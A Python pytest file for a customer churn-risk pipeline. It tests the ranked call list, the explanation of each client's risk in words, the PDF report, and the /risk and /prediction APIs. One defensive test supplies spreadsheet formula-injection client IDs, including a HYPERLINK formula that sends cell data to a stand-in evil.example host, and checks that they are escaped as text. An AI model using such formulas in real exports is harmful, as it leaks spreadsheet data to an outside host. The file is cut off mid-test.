"""Tests of the call list and its reasons (riskcore.report.call_list, riskcore.model.reasons): risk_scores.csv and its record
on the bundled data, the PDF's "call first" table, POST /prediction and GET /risk, all giving the same reasons."""

from __future__ import annotations

import csv
import html
import json
import math
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from sklearn.linear_model import LogisticRegression

import app as app_module
import deployment
import ingestion
import reporting
import scoring
import training
from conftest import ROOT, client_rows, deploy_pipeline, write_config, write_csv
from riskcore.config import load_config
from riskcore.contract import FEATURE_LABELS, FEATURES, MODEL_METADATA, DataError
from riskcore.files import atomic_write_json
from riskcore.model import reasons
from riskcore.release.load import deployed_metadata, load_deployed_model, require_deployment
from riskcore.report import call_list

LABELLED = "corporation,lastmonth_activity,lastyear_activity,number_of_employees,exited"
UNLABELLED = "corporation,lastmonth_activity,lastyear_activity,number_of_employees"


def read_call_list(path: Path) -> list[dict[str, str]]:
    """risk_scores.csv as text, every value exactly as written."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def latest_rows(path: Path) -> dict[str, dict[str, str]]:
    """Each client's last row in a client CSV, its latest snapshot, with that row's place in the file ("line")."""
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["corporation"]: {**row, "line": line} for line, row in enumerate(csv.DictReader(handle))}


def expected_reasons(metadata: dict, values: list[int]) -> tuple[list[float], list[str]]:
    """From the metadata alone: each feature's contribution, and the reasons in words, in the order listed."""
    coefficients, average = metadata["coefficients"], metadata["average_client"]
    shares = [coefficients[f] * (value - average[f]) for f, value in zip(FEATURES, values, strict=True)]
    explainer = reasons.Explainer.from_metadata(metadata)
    assert explainer.typical == tuple(metadata["typical_client"][f] for f in FEATURES)
    return shares, [r["text"] for r in explainer.reasons(values)]


# --- The bundled data, as `make run` takes it -------------------------------------------------
@pytest.fixture(scope="module")
def bundled(tmp_path_factory):
    """The course's progression on the bundled data: practicedata deployed, then sourcedata ingested,
    retrained, scored, deployed and reported on."""
    root = tmp_path_factory.mktemp("bundled")
    for folder in ("practicedata", "sourcedata", "testdata"):
        shutil.copytree(ROOT / folder, root / folder)
    for name in ("config.practice.json", "config.json"):
        shutil.copy(ROOT / name, root / name)
    for name in ("config.practice.json", "config.json"):
        config = load_config(root / name)
        ingestion.run(config)
        training.run(config)
        scoring.run(config)
        deployment.run(config)
    paths = reporting.run(config)
    current = require_deployment(config.prod_deployment_folder)
    return config, paths, deployed_metadata(current), current


def test_the_call_list_holds_each_client_who_has_not_left_once(bundled):
    """Every client whose latest snapshot has not left (exited 0 or empty), once; no client who has."""
    config, paths, _, _ = bundled
    latest = latest_rows(config.final_data_file)
    listed = [row["corporation"] for row in read_call_list(paths["risk_scores"])]
    assert len(listed) == len(set(listed))
    stayed = {client for client, row in latest.items() if row["exited"].strip() in ("0", "")}
    assert set(listed) == stayed
    assert len(stayed) < len(latest)  # the bundled data has clients who left: they are left out
    for row in read_call_list(paths["risk_scores"]):
        assert [row[f] for f in FEATURES] == [latest[row["corporation"]][f].strip() for f in FEATURES]


def test_the_call_list_is_ranked_by_strictly_decreasing_log_odds(bundled):
    """Strictly decreasing from one client to the next, except between clients with the same values of every
    feature (the bundled data has such a pair), whom no model can tell apart: those keep the file's order."""
    config, paths, _, _ = bundled
    rows = read_call_list(paths["risk_scores"])
    assert list(rows[0]) == list(call_list.COLUMNS)
    assert [int(row["rank"]) for row in rows] == list(range(1, len(rows) + 1))
    position = {client: row["line"] for client, row in latest_rows(config.final_data_file).items()}
    for earlier, later in zip(rows, rows[1:], strict=False):
        if [earlier[f] for f in FEATURES] == [later[f] for f in FEATURES]:
            assert earlier["log_odds"] == later["log_odds"]
            assert position[earlier["corporation"]] < position[later["corporation"]]
        else:
            assert float(earlier["log_odds"]) > float(later["log_odds"]), (earlier, later)
    chances = [float(row["probability"]) for row in rows]
    assert all(earlier >= later for earlier, later in zip(chances, chances[1:], strict=False))


def test_reasons_add_up_to_the_log_odds_against_the_average_client(bundled):
    """Checked from the CSV and modelmetadata.json alone: the contributions coefficient x (value - mean) add up
    to the client's log-odds minus the average client's, and the reasons are those contributions in words."""
    _, paths, metadata, _ = bundled
    coefficients, average = metadata["coefficients"], metadata["average_client"]
    average_log_odds = metadata["intercept"] + sum(coefficients[f] * average[f] for f in FEATURES)
    rows = read_call_list(paths["risk_scores"])
    for row in rows:
        values = [int(row[f]) for f in FEATURES]
        shares, words = expected_reasons(metadata, values)
        log_odds = float(row["log_odds"])
        assert sum(shares) == pytest.approx(log_odds - average_log_odds, abs=1e-9), row
        assert [float(row[name]) for name in reasons.CONTRIBUTION_COLUMNS] == pytest.approx(shares, abs=1e-9)
        assert metadata["intercept"] + sum(coefficients[f] * v for f, v in zip(FEATURES, values, strict=True)) == (
            pytest.approx(log_odds, abs=1e-9))
        assert [row[name] for name in reasons.REASON_COLUMNS if row[name]] == words, row
    assert float(rows[0]["log_odds"]) > average_log_odds  # the first clients to call are riskier than average


def test_the_metadata_carries_the_models_own_coefficients(bundled):
    config, _, metadata, current = bundled
    model = load_deployed_model(current)
    assert [metadata["coefficients"][f] for f in FEATURES] == model.coef_[0].tolist()
    assert metadata["intercept"] == model.intercept_[0]
    assert set(metadata["average_client"]) == set(FEATURES)
    trained_on = json.loads((config.output_model_folder / MODEL_METADATA).read_text())
    assert trained_on["average_client"] == metadata["average_client"]


def test_the_model_version_is_once_per_file_in_the_record_beside_it(bundled):
    config, paths, _, current = bundled
    record = json.loads(paths["risk_scores"].with_suffix(".json").read_text())
    rows = read_call_list(paths["risk_scores"])
    assert record["model_version"] == current.model_version and record["release"] == current.release
    assert record["risk_list"] == "risk_scores.csv" and record["columns"] == list(call_list.COLUMNS)
    assert record["clients"] == len(rows)
    with open(config.final_data_file, newline="", encoding="utf-8") as handle:
        read = sum(1 for _ in csv.DictReader(handle))
    assert record["rows_read"] == read
    assert record["clients"] + record["left_out"]["left"] + record["left_out"]["earlier_snapshots"] == read
    assert current.model_version not in paths["risk_scores"].read_text(encoding="utf-8")


def test_the_pdf_shows_the_reasons_in_the_call_first_table(bundled):
    """Read back with pypdf: each client to call first with the reasons listed first in risk_scores.csv."""
    from pypdf import PdfReader

    from riskcore.report.pdf import PDF_REASONS

    config, paths, _, _ = bundled
    pages = [" ".join(page.extract_text().split()) for page in PdfReader(paths["summary_report"]).pages]
    text = " ".join(pages)
    table = text[text.index("This cycle's calls"):]  # the table may run on to the next page
    for row in read_call_list(paths["risk_scores"])[:config.reporting["calls_per_cycle"]]:
        shown = "; ".join(row[name] for name in reasons.REASON_COLUMNS[:PDF_REASONS])
        assert f"{row['corporation']} " in table and shown in table, (row["corporation"], shown)


def test_risk_pages_are_the_call_list_with_the_same_reasons(bundled):
    config, paths, _, current = bundled
    rows = read_call_list(paths["risk_scores"])
    client = app_module.create_app(config.config_file).test_client()
    first = client.get("/risk?top=40").get_json()
    second = client.get(f"/risk?top=40&offset={first['next_offset']}").get_json()
    assert first["model_version"] == current.model_version and first["total"] == len(rows)
    served = first["clients"] + second["clients"]
    assert len(served) == 80
    for row, entry in zip(rows, served, strict=False):
        assert entry["rank"] == int(row["rank"]) and entry["corporation"] == row["corporation"]
        assert entry["log_odds"] == float(row["log_odds"])
        assert [r["text"] for r in entry["reasons"]] == [row[name] for name in reasons.REASON_COLUMNS if row[name]]


def test_prediction_answers_carry_the_same_reasons_as_the_call_list(bundled):
    config, paths, metadata, _ = bundled
    rows = read_call_list(paths["risk_scores"])[:25]
    records = [{"corporation": row["corporation"], **{f: int(row[f]) for f in FEATURES}} for row in rows]
    client = app_module.create_app(config.config_file).test_client()
    answer = client.post("/prediction", json={"records": records}).get_json()
    average = reasons.Explainer.from_metadata(metadata).average_log_odds
    assert client.get("/risk?top=1").get_json()["average_log_odds"] == average
    for row, prediction in zip(rows, answer["predictions"], strict=True):
        assert [r["text"] for r in prediction["reasons"]] == [row[name] for name in reasons.REASON_COLUMNS if row[name]]
        assert sum(r["contribution"] for r in prediction["reasons"]) == pytest.approx(
            float(row["log_odds"]) - average, abs=1e-9)


# --- Which rows: a client's latest snapshot, clients who have not left ------------------------
def call_list_of(config, tmp_path: Path, header: str, lines: list[str]) -> tuple[list[dict[str, str]], object]:
    clients = tmp_path / "clients.csv"
    clients.write_text(header + "\n" + "".join(line + "\n" for line in lines), encoding="utf-8")
    result = call_list.risk_scores(config, clients)
    return read_call_list(result.path), result


def test_a_repeated_client_is_ranked_once_on_its_last_row(deployed, tmp_path):
    rows, result = call_list_of(deployed, tmp_path, LABELLED, [
        "stays,1,2,3,0", "goes,100,2000,30,0", "stays,5,60,7,0", "back,9,9,9,1", "goes,4,4,4,1", "back,8,80,8,0",
        "new,0,0,900,"])
    assert {row["corporation"]: [int(row[f]) for f in FEATURES] for row in rows} == {
        "stays": [5, 60, 7], "back": [8, 80, 8], "new": [0, 0, 900]}
    assert (result.rows, result.rows_read, result.earlier_snapshots, result.left) == (3, 7, 3, 1)


def test_a_client_id_that_would_start_a_spreadsheet_formula_is_written_as_text(deployed, tmp_path):
    """risk_scores.csv and the page's call_list.csv download: an id from a hostile CRM export never runs as a formula,
    as in calls.csv (riskcore.ops.calls.safe_cell); other ids are written as they are."""
    hostile = ['"=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "@SUM(1+1)", "+cmd", "-2+3", "plain"]
    rows, _ = call_list_of(deployed, tmp_path, LABELLED, [f"{name},{i},{i * 10},{i},0" for i, name in
                                                          enumerate(hostile, 1)])
    expected = {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@SUM(1+1)", "'+cmd", "'-2+3", "plain"}
    assert {row["corporation"] for row in rows} == expected
    shutil.copy(tmp_path / "clients.csv", deployed.final_data_file)
    download = app_module.create_app(deployed.config_file).test_client().get("/downloads/call_list.csv")
    assert download.status_code == 200
    assert {row["corporation"] for row in csv.DictReader(download.get_data(as_text=True).splitlines())} == expected


def test_unlabelled_clients_are_listed(deployed, tmp_path):
    rows, result = call_list_of(deployed, tmp_path, UNLABELLED, ["a,1,2,3", "b,40,500,60", "a,2,3,4"])
    assert sorted((row["corporation"], row["lastmonth_activity"]) for row in rows) == [("a", "2"), ("b", "40")]
    assert (result.rows_read, result.earlier_snapshots, result.left) == (3, 1, 0)


@pytest.mark.parametrize("repeat", [False, True])
def test_the_words_in_the_file_are_the_explainers_for_small_and_huge_values(deployed, tmp_path, repeat):
    """Values past 32 bits (the exact pass) and past the lookup array (the hash lookup), with and without a
    repeated id: each row's reasons are Explainer.reasons of its values, its log-odds the model's."""
    lines = [f"c{i},{i % 400},{(i * 37) % 5000},{(i * 11) % 900},{i % 2}" for i in range(300)]
    lines += ["huge,5,60,5000000000,0", "big,4194304,10,10,0", "edge,4294967295,0,1,"]
    if repeat:
        lines.append("c2,9,90,9,0")
    rows, result = call_list_of(deployed, tmp_path, LABELLED, lines)
    current = require_deployment(deployed.prod_deployment_folder)
    model = load_deployed_model(current)
    explainer = reasons.explainer_for(model, deployed_metadata(current), current.model_version)
    values = [[int(row[f]) for f in FEATURES] for row in rows]
    assert {"huge", "big", "edge"} <= {row["corporation"] for row in rows}
    assert [[row[name] for name in reasons.REASON_COLUMNS if row[name]] for row in rows] == [
        [r["text"] for r in explainer.reasons(v)] for v in values]
    assert [float(row["log_odds"]) for row in rows] == pytest.approx(
        model.decision_function(np.array(values, dtype=float)).tolist(), rel=1e-12)
    assert result.earlier_snapshots == int(repeat)


@pytest.mark.parametrize("streamed_in_order", [True, False])
def test_equal_log_odds_keep_the_files_order_whatever_order_the_stream_gave(streamed_in_order):
    """riskiest_first sorts the collected rows: by log-odds, highest first, ties by their row in the file (ORDER),
    whether the streaming pass kept the file's order (one stable sort) or not (a sort on both)."""
    import polars as pl

    listed = pl.DataFrame({call_list.ORDER: [0, 1, 2, 3, 4], "corporation": ["a", "b", "c", "d", "e"],
                           "log_odds": [1.0, 2.0, 1.0, float("nan"), 1.0]},
                          schema_overrides={call_list.ORDER: pl.UInt32})
    if not streamed_in_order:
        listed = listed.reverse()
    ranked = call_list.riskiest_first(listed)
    assert ranked.get_column("corporation").to_list() == ["d", "b", "a", "c", "e"]
    assert call_list.ORDER not in ranked.columns


def test_a_file_of_clients_who_all_left_gives_an_empty_list(deployed, tmp_path):
    rows, result = call_list_of(deployed, tmp_path, LABELLED, ["a,1,2,3,1", "b,4,5,6,1"])
    assert rows == [] and result.rows == 0 and result.left == 2 and result.top == []


@pytest.mark.parametrize(("label", "shown"), [("2", '"2"'), ("yes", '"yes"'), ("-1", '"-1"')])
def test_a_label_other_than_0_1_or_empty_is_one_sentence_naming_the_row(deployed, tmp_path, label, shown):
    before = call_list.risk_scores(deployed).path.read_bytes()
    with pytest.raises(DataError, match=f'^clients.csv has {shown} in column "exited" at row 3; expected 0, 1 or '
                                        "an empty value.$"):
        call_list_of(deployed, tmp_path, LABELLED, ["a,1,2,3,0", "b,4,5,6,", f"c,7,8,9,{label}"])
    assert (deployed.output_model_folder / "risk_scores.csv").read_bytes() == before


def test_a_file_written_back_as_it_grows_is_whole_and_its_thread_ends(tmp_path):
    """riskcore.files.written_back (risk_scores.csv's writing): the file holds what the writer wrote, the thread
    that hands it to the disk ends with the block, and a file that cannot be opened is left to the writer."""
    import threading

    from riskcore.files import written_back

    path = tmp_path / "big.csv"
    path.touch()
    chunks = [bytes([65 + k % 26]) * 100_000 for k in range(30)]
    with written_back(path, every=0.001), open(path, "wb") as handle:
        for chunk in chunks:
            handle.write(chunk)
            handle.flush()
    assert path.read_bytes() == b"".join(chunks)
    with written_back(tmp_path / "missing.csv", every=0.001):
        pass
    assert not [thread for thread in threading.enumerate() if thread.name == "write-back"]


def test_a_row_that_breaks_the_contract_is_named_even_when_a_later_row_replaces_it(deployed, tmp_path):
    with pytest.raises(DataError, match='^clients.csv has a negative value in column "lastyear_activity" at row 1'):
        call_list_of(deployed, tmp_path, LABELLED, ["a,1,-2,3,0", "a,1,2,3,0"])


def test_saturated_probabilities_keep_distinct_log_odds_in_the_file(deployed, tmp_path):
    """Clients whose probability rounds to 1 still show their order in the log-odds column."""
    model = LogisticRegression().fit(np.array([[0, 0, 0], [1, 0, 0], [2, 0, 0], [3, 0, 0]], dtype=float),
                                     np.array([0, 0, 1, 1]))
    clients = write_csv(tmp_path / "clients.csv", ["low,10000,0,0", "top,30000,0,0", "mid,20000,0,0"],
                        header=UNLABELLED)
    current = require_deployment(deployed.prod_deployment_folder)
    result = call_list.risk_scores(deployed, clients, model=model, deployment=current, reasons=False)
    rows = read_call_list(result.path)
    assert [row["corporation"] for row in rows] == ["top", "mid", "low"]
    assert [row["probability"] for row in rows] == ["1.0", "1.0", "1.0"]  # polars writes a float with its decimal point
    keys = [float(row["log_odds"]) for row in rows]
    assert keys[0] > keys[1] > keys[2]


# --- The reasons themselves -------------------------------------------------------------------
@pytest.mark.parametrize(("contributions", "listed"), [
    ([1.0, -1.0, 0.5], [0, 2, 1]),  # raising the risk first, the largest first, then lowering it
    ([-2.0, 2.0, -3.0], [1, 2, 0]),  # lowering ones by size too
    ([0.0, 0.0, 0.0], [0, 1, 2]),  # nothing: feature order
    ([3.0, 3.0, -3.0], [0, 1, 2]),  # equal ones in feature order; a raising one before a lowering one
    ([-0.5, 0.0, -0.5], [0, 2, 1]),  # zero raises nothing: it comes last among the lowering ones
])
def test_reasons_are_listed_raising_the_risk_first_then_by_size(contributions, listed):
    places = reasons.positions(contributions)
    assert sorted(range(3), key=places.__getitem__) == listed


def test_positions_are_the_same_for_numbers_arrays_and_polars_expressions():
    import polars as pl

    rng = np.random.default_rng(3)
    table = rng.integers(-3, 4, size=(500, 3)).astype(float)  # many ties and zeros
    by_number = [reasons.positions(row) for row in table.tolist()]
    by_array = np.column_stack(reasons.positions([table[:, j] for j in range(3)])).tolist()
    frame = pl.DataFrame({f"c{j}": table[:, j] for j in range(3)})
    by_polars = frame.select([p.alias(f"p{j}") for j, p in enumerate(
        reasons.positions([pl.col(f"c{j}") for j in range(3)]))]).rows()
    assert by_number == by_array == [list(row) for row in by_polars]


def test_reasons_in_words_name_the_feature_value_the_typical_client_and_the_effect():
    explainer = reasons.Explainer(coefficients=(0.5, 0.0, 0.001), intercept=-1.0, average=(2.0, 10.0, 100.0),
                                  typical=(12.0, 10.0, 99.0))
    listed = explainer.reasons([6, 10, 6462])
    assert [r["text"] for r in listed] == [
        "employees 6,462, about 65 times the typical 99: raises the risk very strongly",
        # Half the typical raises a risk that grows with the activity: above the average 2 it is measured from.
        "activity last month 6, about half the typical 12 but above the average 2: raises the risk strongly",
        "activity last year 10, close to the typical 10: leaves the risk unchanged"]
    assert sum(r["contribution"] for r in listed) == pytest.approx(
        explainer.intercept + 0.5 * 6 + 0.001 * 6462 - explainer.average_log_odds)
    assert explainer.reasons_of(np.array([[6.0, 10.0, 6462.0]])) == [listed]


def test_a_typical_value_that_moves_the_risk_names_the_average_it_is_measured_from():
    """Employees near the market's typical 100 lower the risk strongly against the average client (185) the model
    learnt from: the reason says so, instead of a typical value that lowers the risk for no reason."""
    explainer = reasons.Explainer(coefficients=(0.0, 0.0, 0.02), intercept=0.0, average=(97.0, 1148.0, 185.0),
                                  typical=(94.0, 1045.0, 100.0))
    assert reasons.single_text(explainer, 2, 95) == (
        "employees 95, close to the typical 100 but below the average 185: lowers the risk strongly")
    assert reasons.single_text(explainer, 2, 110) == (
        "employees 110, close to the typical 100 but below the average 185: lowers the risk strongly")
    assert reasons.single_text(explainer, 2, 400) == "employees 400, about 4 times the typical 100: raises the risk " \
        "very strongly"  # not close to the typical: the comparison explains itself
    # Between the typical and the average: above the one, below the other. "About 1.2 times the typical: lowers the
    # risk" read as more employees lowering it, while 4 times the typical raises it.
    assert reasons.single_text(explainer, 2, 125) == (
        "employees 125, about 1.2 times the typical 100 but below the average 185: lowers the risk")
    assert reasons.single_text(explainer, 2, 170) == (
        "employees 170, about 1.7 times the typical 100 but below the average 185: lowers the risk slightly")
    assert reasons.single_text(explainer, 2, 60) == "employees 60, about two thirds of the typical 100: lowers the " \
        "risk strongly"  # below both: the comparison explains itself
    above = reasons.Explainer(coefficients=(0.0, 0.0, -0.02), intercept=0.0, average=(97.0, 1148.0, 40.0),
                              typical=(94.0, 1045.0, 100.0))
    assert reasons.single_text(above, 2, 70) == (
        "employees 70, about two thirds of the typical 100 but above the average 40: lowers the risk")
    near = reasons.Explainer(coefficients=(0.0, 0.0, 0.02), intercept=0.0, average=(97.0, 1148.0, 105.0),
                             typical=(94.0, 1045.0, 100.0))
    assert reasons.single_text(near, 2, 100) == "employees 100, close to the typical 100: lowers the risk slightly"


def test_falling_activity_is_one_reason_when_the_model_weighs_the_month_against_the_year():
    """The new market's model: last month lowers, the year raises the risk; one reason about the trend carries the
    sum of both contributions, and the year's low level (which alone would read "lowers") is not said apart."""
    explainer = reasons.Explainer(coefficients=(-0.136, 0.0072, 0.02), intercept=0.75, average=(97.0, 1148.0, 184.0),
                                  typical=(94.0, 1045.0, 99.0))
    listed = explainer.reasons([20, 512, 99])
    assert [r["feature"] for r in listed] == [reasons.TREND, "number_of_employees"]
    trend = listed[0]
    assert trend["values"] == {"lastmonth_activity": 20, "lastyear_activity": 512}
    assert trend["contribution"] == pytest.approx(sum(trend["contributions"].values()))
    assert trend["contributions"]["lastyear_activity"] < 0 < trend["contribution"]
    assert trend["text"] == ("activity falling: 20 last month, about a fifth of the typical 94, against its usual 43 "
                             "a month: raises the risk very strongly")


@pytest.mark.parametrize(("value", "typical", "words"), [
    (48, 97, "about half the typical 97"), (24, 97, "about a quarter of the typical 97"),
    (100, 97, "close to the typical 97"), (300, 97, "about 3 times the typical 97"),
    (150, 97, "about 1.5 times the typical 97"), (0, 97, "none against the typical 97"),
    (1, 97, "far below the typical 97"), (0, 0, "the same as the typical 0"), (5, 0, "above the typical 0")])
def test_values_are_compared_with_the_typical_client_in_words(value, typical, words):
    assert reasons.compared(value, typical) == words


@pytest.mark.parametrize(("contribution", "words"), [
    (0.0, "leaves the risk unchanged"), (0.2, "raises the risk slightly"), (-0.7, "lowers the risk"),
    (1.6, "raises the risk strongly"), (-4.0, "lowers the risk very strongly")])
def test_effects_are_said_with_their_direction_and_strength(contribution, words):
    assert reasons.effect(contribution) == words


@pytest.mark.parametrize("typical", [3, 97, 1000, 6462])
def test_a_value_below_the_typical_is_the_nearest_fraction_of_it_in_log_terms(typical):
    for value in range(1, typical):
        ratio = value / typical
        if 0.05 <= ratio < 0.875:
            _, words = min(reasons.FRACTIONS, key=lambda pair: abs(math.log(ratio / pair[0])))
            assert reasons.compared(value, typical) == f"about {words} the typical {typical:,}"


def test_many_rows_at_once_get_the_reasons_each_row_gets_alone():
    """reasons_of (numpy, column by column) and reasons (one row, plain Python) agree, ties and zeros included."""
    explainer = reasons.Explainer(coefficients=(0.5, -0.25, 0.001), intercept=-1.0, average=(2.0, 4.0, 1000.0))
    rows = np.random.default_rng(5).integers(0, 8, size=(200, 3)).astype(float)
    rows[:, 2] *= 250  # employees 0 to 1,750: contributions equal to the others' and zero among them
    assert len(rows) >= reasons.ONE_BY_ONE_ROWS
    assert explainer.reasons_of(rows) == [explainer.reasons(row) for row in rows.tolist()]


def test_an_explainer_words_each_value_once_and_shares_a_single_features_reason_among_its_rows(monkeypatch):
    """The words of a value are kept per explainer (the API's lives as long as its model is served): a second request
    with the same values words nothing again; rows holding the same value share that feature's reason."""
    made = []

    def counted(explainer, j, value):
        made.append((j, value))
        return f"words of {value}"

    monkeypatch.setattr(reasons, "single_text", counted)
    explainer = reasons.Explainer(coefficients=(0.5, 0.25, 0.001), intercept=-1.0, average=(2.0, 4.0, 1000.0))
    rows = np.array([[1.0, 2.0, 500.0], [1.0, 3.0, 500.0]] * reasons.ONE_BY_ONE_ROWS)
    first = explainer.reasons_of(rows)
    assert sorted(made) == [(0, 1.0), (1, 2.0), (1, 3.0), (2, 500.0)]
    assert explainer.reasons_of(rows) == first and len(made) == 4
    by_feature = [{reason["feature"]: reason for reason in row} for row in first]
    assert by_feature[0]["number_of_employees"] is by_feature[1]["number_of_employees"]
    assert by_feature[0]["lastmonth_activity"]["text"] == "words of 1.0"


def test_metadata_that_disagrees_with_the_model_is_refused(deployed):
    current = require_deployment(deployed.prod_deployment_folder)
    model = load_deployed_model(current)
    metadata = {**deployed_metadata(current), "intercept": float(model.intercept_[0]) + 1.0}
    with pytest.raises(Exception, match="other coefficients"):
        reasons.explainer_for(model, metadata, current.model_version)


# --- GET /risk: paged, cached, refusing bad pages ---------------------------------------------
@pytest.fixture
def risk_client(deployed):
    return app_module.create_app(deployed.config_file).test_client()


@pytest.mark.parametrize(("query", "field"), [
    ("top=-1", "top"), ("top=abc", "top"), ("top=0", "top"), ("top=1001", "top"), ("top=1&top=2", "top"),
    ("offset=-3", "offset"), ("offset=99999999999999999999", "offset"), ("offset=1000000", "offset"),
    ("page=5", "page"), ("limit=5&top=5", "top"), ("q=&q=a", "q"),
])
def test_bad_page_values_are_400_naming_the_field(risk_client, query, field):
    response = risk_client.get(f"/risk?{query}")
    assert response.status_code == 400 and response.mimetype == "application/json"
    body = response.get_json()
    assert body["field"] == field and f'"{field}"' in body["message"]


def test_pages_cover_the_list_and_the_last_one_says_so(risk_client):
    whole = risk_client.get("/risk?top=1000").get_json()
    assert whole["count"] == whole["total"] and whole["next_offset"] is None
    pages, offset = [], 0
    while offset is not None:
        page = risk_client.get(f"/risk?top=7&offset={offset}").get_json()
        pages += page["clients"]
        offset = page["next_offset"]
    assert pages == whole["clients"]
    end = risk_client.get(f"/risk?offset={whole['total']}")  # past the last page: a 400, as docs/api.md says
    assert end.status_code == 400 and end.get_json()["field"] == "offset"


def test_the_ranking_is_built_once_per_deployment_and_version_of_the_data(deployed, monkeypatch):
    built = []
    original = call_list.ranking_of

    def counting(source, model):
        built.append(source)
        return original(source, model)

    monkeypatch.setattr(call_list, "ranking_of", counting)
    client = app_module.create_app(deployed.config_file).test_client()
    first = client.get("/risk?top=3").get_json()
    client.get("/risk?top=5&offset=2")
    assert len(built) == 1
    write_csv(deployed.input_folder / "more.csv", client_rows(30, seed=8, prefix="m"))
    ingestion.run(deployed)
    again = client.get("/risk?top=3").get_json()
    assert len(built) == 2 and again["total"] != first["total"]
    training.run(deployed)
    scoring.run(deployed)
    deployment.run(deployed)
    newer = client.get("/risk?top=3").get_json()
    assert len(built) == 3 and newer["model_version"] != first["model_version"]


def test_risk_without_ingested_data_is_503(tmp_path):
    write_csv(tmp_path / "input" / "dataset1.csv", client_rows(40, seed=1))
    write_csv(tmp_path / "test" / "testdata.csv", client_rows(20, seed=3, prefix="t"))
    config = deploy_pipeline(load_config(write_config(tmp_path)))
    config.final_data_file.unlink()
    response = app_module.create_app(config.config_file).test_client().get("/risk")
    assert response.status_code == 503 and "ingestion.py" in response.get_json()["message"]


def test_a_model_trained_before_the_reasons_is_still_ranked_without_them(deployed):
    """A release whose metadata predates the average client: the call list, /risk and /prediction rank and
    predict as before, with empty reasons."""
    metadata = json.loads((deployed.output_model_folder / MODEL_METADATA).read_text())
    for key in ("coefficients", "intercept", "average_client"):
        metadata.pop(key)
    assert reasons.Explainer.from_metadata(metadata) is None
    atomic_write_json(deployed.output_model_folder / MODEL_METADATA, metadata)
    older = deployment.run(deployed)  # the same model again, with metadata as an older training wrote it
    assert "average_client" not in deployed_metadata(older)
    result = call_list.risk_scores(deployed)
    rows = read_call_list(result.path)
    assert rows and all(row[name] == "" for row in rows for name in reasons.REASON_COLUMNS)
    assert json.loads(result.record.read_text())["average_log_odds"] is None
    client = app_module.create_app(deployed.config_file).test_client()
    page = client.get("/risk?top=3").get_json()
    assert page["release"] == older.release and page["average_log_odds"] is None
    assert [entry["corporation"] for entry in page["clients"]] == [row["corporation"] for row in rows[:3]]
    assert all(entry["reasons"] == [] for entry in page["clients"])
    answer = client.post("/prediction", json={"records": [{"corporation": "x", **dict.fromkeys(FEATURES, 1)}]})
    assert answer.get_json()["predictions"][0]["reasons"] == []


# --- A reason never says the opposite of what the model does (property-based) ---------------------
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

coefficient = st.floats(-0.5, 0.5, allow_nan=False).map(lambda c: round(c, 4))
count_value = st.integers(0, 20_000)
explainers = st.builds(
    lambda coef, average, typical: reasons.Explainer(tuple(coef), -0.3, tuple(average), tuple(typical)),
    st.lists(coefficient, min_size=3, max_size=3),
    st.lists(st.floats(0, 5_000, allow_nan=False), min_size=3, max_size=3),
    st.lists(st.floats(0, 5_000, allow_nan=False), min_size=3, max_size=3))
clients = st.lists(st.lists(count_value, min_size=3, max_size=3), min_size=1, max_size=40)


def direction_said(text: str) -> int:
    """+1 for "raises the risk", -1 for "lowers the risk", 0 for "leaves the risk unchanged"; exactly one of them."""
    said = [("raises the risk" in text, 1), ("lowers the risk" in text, -1), ("leaves the risk unchanged" in text, 0)]
    found = [sign for present, sign in said if present]
    assert len(found) == 1, text
    return found[0]


def by_hand(explainer: reasons.Explainer, values: dict[str, int]) -> float:
    """What the named features add to the log-odds against the average client: coefficient x (value - mean)."""
    return sum(explainer.coefficients[FEATURES.index(f)] * (v - explainer.average[FEATURES.index(f)])
               for f, v in values.items())


def features_named(text: str) -> tuple[str, ...]:
    """The features a reason's words are about: its label ("employees 6,462, ..."), or both activities for the trend
    ("activity falling: ...")."""
    if text.split(":")[0] in reasons.TREND_WORDS:
        return ("lastmonth_activity", "lastyear_activity")
    [feature] = [f for f, label in FEATURE_LABELS.items() if text.startswith(label + " ")]
    return (feature,)


@settings(max_examples=300, deadline=None)
@given(explainers, clients)
def test_a_reasons_words_match_the_sign_of_what_the_model_adds(explainer, rows):
    """On generated models and clients: each reason's direction in words is the sign of the contributions it stands
    for (the two activities together when the model weighs them against each other), and the reasons' contributions
    add up to the model's log-odds against the average client."""
    for values in rows:
        listed = explainer.reasons(values)
        log_odds = explainer.intercept + sum(c * v for c, v in zip(explainer.coefficients, values, strict=True))
        assert sum(r["contribution"] for r in listed) == pytest.approx(log_odds - explainer.average_log_odds,
                                                                       abs=1e-6)
        for r in listed:
            own = by_hand(explainer, r["values"])
            assert r["contribution"] == pytest.approx(own, abs=1e-9)
            assert r["values"] == {f: values[FEATURES.index(f)] for f in features_named(r["text"])}
            assert direction_said(r["text"]) == (own > 0) - (own < 0), (r, values)
        assert len({f for r in listed for f in r["values"]}) == len(FEATURES)  # every feature, once


@settings(max_examples=40, deadline=None)
@given(explainers, clients)
def test_the_risk_lists_words_are_the_explainers_on_generated_clients(explainer, rows):
    """risk_scores.csv's reason columns (polars, worded per value and effect) are Explainer.reasons row by row."""
    import polars as pl

    frame = pl.DataFrame({"corporation": [f"c{i}" for i in range(len(rows))],
                          "log_odds": [0.0] * len(rows),
                          **{f: [row[j] for row in rows] for j, f in enumerate(FEATURES)}},
                         schema_overrides={f: pl.UInt32 for f in FEATURES})
    table = call_list.risk_table(frame, explainer).collect()
    for values, written in zip(rows, table.select(reasons.REASON_COLUMNS).rows(), strict=True):
        assert [w for w in written if w is not None] == [r["text"] for r in explainer.reasons(values)]


@settings(max_examples=40, deadline=None)
@given(explainers, clients)
def test_each_reason_in_the_risk_list_says_the_direction_of_its_contribution_columns(explainer, rows):
    """risk_scores.csv read as a data scientist would check it: the contribution_<feature> columns are coefficient x
    (value - mean), and each reason_k's direction in words is the sign of the columns of the features it names."""
    import polars as pl

    frame = pl.DataFrame({"corporation": [f"c{i}" for i in range(len(rows))],
                          "log_odds": [0.0] * len(rows),
                          **{f: [row[j] for row in rows] for j, f in enumerate(FEATURES)}},
                         schema_overrides={f: pl.UInt32 for f in FEATURES})
    table = call_list.risk_table(frame, explainer).collect()
    for values, written in zip(rows, table.iter_rows(named=True), strict=True):
        columns = {f: written[f"contribution_{f}"] for f in FEATURES}
